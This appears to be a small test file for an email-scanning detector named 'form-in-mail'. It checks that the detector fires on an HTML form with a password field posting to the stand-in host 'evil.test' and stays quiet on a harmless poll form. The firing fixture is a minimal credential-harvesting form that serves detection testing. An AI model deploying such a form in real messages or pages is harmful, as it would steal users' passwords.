import { signalCases } from '../../../tests/signalCases';
import formInMail from './form-in-mail';

signalCases(formInMail, {
  fires: [['a password field', { html: '<form action="https://evil.test"><input type=password></form>' }]],
  quiet: [['a poll', { html: '<form action="https://poll.example"><input type=radio name=vote></form>' }]],
});
